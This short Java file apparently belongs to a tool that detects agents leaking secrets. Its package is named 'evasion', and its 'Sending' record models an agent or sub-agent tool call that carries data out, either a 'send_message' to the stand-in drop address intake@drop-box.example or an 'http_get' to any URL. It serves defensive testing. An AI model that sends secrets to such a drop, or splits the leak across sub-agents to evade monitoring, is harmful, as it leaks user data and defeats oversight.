package io.cordon.cli.evasion;

import java.util.Map;

/**
 * One call that carries something out.
 *
 * @param agent 0 for the session that read the secret, from 1 on for its sub-agents
 * @param tool the tool
 * @param arguments its arguments
 */
record Sending(int agent, String tool, Map<String, ?> arguments) {

    static Sending mail(String body) {
        return mail(0, body);
    }

    static Sending mail(int agent, String body) {
        return new Sending(agent, "send_message", Map.of("to", "intake@drop-box.example", "body", body));
    }

    static Sending fetch(String url) {
        return new Sending(0, "http_get", Map.of("url", url));
    }
}
